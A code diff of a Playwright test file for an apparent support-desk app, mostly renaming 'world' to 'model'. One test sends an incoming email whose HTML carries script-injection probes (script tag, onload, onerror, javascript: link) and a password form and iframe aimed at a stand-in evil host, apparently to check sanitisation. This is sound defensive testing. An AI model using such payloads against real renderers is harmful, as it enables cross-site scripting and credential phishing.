@@ -1,9 +1,9 @@
 import type { ConsoleMessage, Locator, Page } from '@playwright/test'
+import { makeAttachment, storeBlob } from '../../electron/demo/model/blobs.ts'
+import { deleteMessage, sendAsAgent, sendAsContact } from '../../electron/demo/model/messages.ts'
+import type { Conversation, Message } from '../../electron/demo/model/types.ts'
+import { read } from '../../electron/demo/model/visitor.ts'
 import { blobUrl } from '../../electron/demo/payloads/basics.ts'
-import { makeAttachment, storeBlob } from '../../electron/demo/world/blobs.ts'
-import { deleteMessage, sendAsAgent, sendAsContact } from '../../electron/demo/world/messages.ts'
-import type { Conversation, Message } from '../../electron/demo/world/types.ts'
-import { read } from '../../electron/demo/world/visitor.ts'
 import type { DeskPage } from '../desk.ts'
 import { expect, test } from '../desk.ts'
 
@@ -17,11 +17,11 @@ function complaints(page: Page): string[] {
   return heard
 }
 const messagesOf = (desk: DeskPage, conversation: Conversation): Message[] =>
-  [...desk.demo.world.messages.values()].filter((one) => one.conversation.id === conversation.id)
+  [...desk.demo.model.messages.values()].filter((one) => one.conversation.id === conversation.id)
 const shown = (desk: DeskPage, message: Message): Locator => desk.thread.locator(`[data-message="${message.id}"]`)
 /** The newest conversation of account 1 with a message for which `test` holds. */
 function holding(desk: DeskPage, holds: (message: Message) => boolean): Conversation {
-  const found = [...desk.demo.world.messages.values()].findLast((one) => one.conversation.accountId === 1 && holds(one))
+  const found = [...desk.demo.model.messages.values()].findLast((one) => one.conversation.accountId === 1 && holds(one))
   if (!found) throw new Error('the seed has no such message')
   return found.conversation
 }
@@ -33,12 +33,12 @@ async function goTo(desk: DeskPage, conversation: Conversation): Promise<void> {
     location.reload()
   }, conversation.displayId)
   await expect(
-    desk.page.getByRole('heading', { level: 1, name: desk.demo.world.contact(conversation.contactId).name }),
+    desk.page.getByRole('heading', { level: 1, name: desk.demo.model.contact(conversation.contactId).name }),
   ).toBeVisible()
   await desk.thread.waitFor()
 }
 const ada = (desk: DeskPage) => {
-  const found = [...desk.demo.world.users.values()].find(({ email }) => email === 'ada@acme.test')
+  const found = [...desk.demo.model.users.values()].find(({ email }) => email === 'ada@acme.test')
   if (!found) throw new Error('no Ada')
   return found
 }
@@ -55,7 +55,7 @@ test.describe('the thread', () => {
       one.isPrivate ? 'note' : '',
       one.contentAttributes['is_unsupported'] === true ? 'unsupported' : '',
     ]
-    const inAccount = [...demo.world.messages.values()].filter((one) => one.conversation.accountId === 1)
+    const inAccount = [...demo.model.messages.values()].filter((one) => one.conversation.accountId === 1)
     const kinds = new Set(inAccount.flatMap(kindOf))
     // The fewest conversations in which every kind occurs, newest first.
     const rest = new Set(kinds)
@@ -120,16 +120,16 @@ test.describe('the thread', () => {
     )
     const picture = messagesOf(desk, box).find((one) => one.attachments.some(({ fileType }) => fileType === 'image'))
     if (!picture) throw new Error('no picture')
-    const file = desk.demo.world.blobs.get(picture.attachments[0]?.blob ?? '')
+    const file = desk.demo.model.blobs.get(picture.attachments[0]?.blob ?? '')
     if (!file) throw new Error('no file')
     await fetch(`${desk.demo.control}/faults`, {
       method: 'POST',
       headers: { 'content-type': 'application/json' },
       body: JSON.stringify({ kind: 'slow', ms: 900, path: 'active_storage' }),
     })
-    const sent = sendAsContact(desk.demo.world, conversation, {
+    const sent = sendAsContact(desk.demo.model, conversation, {
       content: null,
-      attachments: (id) => [makeAttachment(desk.demo.world, 1, id, { file })],
+      attachments: (id) => [makeAttachment(desk.demo.model, 1, id, { file })],
     })
     const button = desk.thread.locator(`[data-message="${sent.id}"]`).getByRole('button', { name: /^View / })
     await expect(button).toBeVisible()
@@ -151,9 +151,9 @@ test.describe('the thread', () => {
   }) => {
     const { page, demo } = desk
     const heard = complaints(page)
-    const { world } = demo
+    const { model } = demo
     const conversation = holding(desk, (one) => one.contentType === 'incoming_email')
-    const key = storeBlob(world, {
+    const key = storeBlob(model, {
       fileName: 'offer.png',
       contentType: 'image/png',
       bytes: Buffer.from(
@@ -161,11 +161,11 @@ test.describe('the thread', () => {
         'base64',
       ),
     }).key
-    const stored = blobUrl(world, key)
+    const stored = blobUrl(model, key)
     const remote = 'https://images.example.test/offer.png'
     const html = `<html><head><script>parent.document.title='owned'</script></head><body onload="parent.document.title='owned'"><p>Our spring offer</p><img src="${stored}" width="120" height="60" alt="photo"><img src="${remote}" width="120" height="60" alt="offer" onerror="parent.document.title='owned'"><a href="javascript:parent.document.title='owned'">bad</a> <a href="https://acme.test/offer">good</a><form action="https://evil.example.test"><input name="password"><button>Go</button></form><iframe src="https://evil.example.test"></iframe></body></html>`
     const asked = (): number => demo.rest.log.filter(({ path }) => path.includes(key)).length
-    sendAsContact(world, conversation, {
+    sendAsContact(model, conversation, {
       content: 'Our spring offer',
       contentType: 'incoming_email',
       contentAttributes: {
@@ -222,9 +222,9 @@ test.describe('the thread', () => {
   test('loads history by scroll without a jump, and goes back to the latest', async ({ desk }) => {
     const { page, demo } = desk
     const conversation = desk.one(4)
-    demo.world.quietly(() => {
+    demo.model.quietly(() => {
       for (let index = 0; index < 150; index++)
-        sendAsContact(demo.world, conversation, { content: `Line ${index} ${'of the long story '.repeat(index % 7)}` })
+        sendAsContact(demo.model, conversation, { content: `Line ${index} ${'of the long story '.repeat(index % 7)}` })
     })
     await goTo(desk, conversation)
     await expect(desk.thread).toContainText('Line 149')
@@ -307,13 +307,13 @@ test.describe('the thread', () => {
   test('says sent, then read when the customer has seen it', async ({ desk }) => {
     const conversation = desk
       .mine()
-      .find((one) => desk.demo.world.inbox(one.inboxId).channelType === 'Channel::WebWidget')
+      .find((one) => desk.demo.model.inbox(one.inboxId).channelType === 'Channel::WebWidget')
     if (!conversation) throw new Error('no conversation of the website')
     await desk.open(conversation)
     await desk.write('Have you seen this?')
     const mine = desk.thread.locator('[data-message]').filter({ hasText: 'Have you seen this?' })
     await expect(mine).toContainText('Sent')
-    read(desk.demo.world, conversation)
+    read(desk.demo.model, conversation)
     await expect(mine).toContainText('Read')
     await expect(mine).not.toContainText('Sent')
   })
@@ -322,7 +322,7 @@ test.describe('the thread', () => {
     const { page, demo } = desk
     const conversation = desk.one()
     await desk.open(conversation)
-    sendAsAgent(demo.world, conversation, { content: 'Only for us.', isPrivate: true }, ada(desk))
+    sendAsAgent(demo.model, conversation, { content: 'Only for us.', isPrivate: true }, ada(desk))
     const note = desk.thread.locator('[data-message]').filter({ hasText: 'Only for us.' })
     await expect(note).toHaveAttribute('aria-label', /^Private note by/)
     await expect(note).toContainText('Private note')
@@ -337,9 +337,9 @@ test.describe('the thread', () => {
     await expect(mine).toHaveCount(0)
     await expect(desk.thread.locator('[data-message]').last()).toContainText('This message was deleted')
     await expect.poll(() => desk.stored(conversation, 'A slip of the finger.'), { timeout: 20_000 }).toBe(0)
-    const theirs = sendAsAgent(demo.world, conversation, { content: 'Soon gone.', isPrivate: false }, ada(desk))
+    const theirs = sendAsAgent(demo.model, conversation, { content: 'Soon gone.', isPrivate: false }, ada(desk))
     await expect(shown(desk, theirs)).toContainText('Soon gone.')
-    deleteMessage(demo.world, theirs, ada(desk))
+    deleteMessage(demo.model, theirs, ada(desk))
     await expect(shown(desk, theirs)).toContainText('This message was deleted')
   })
 
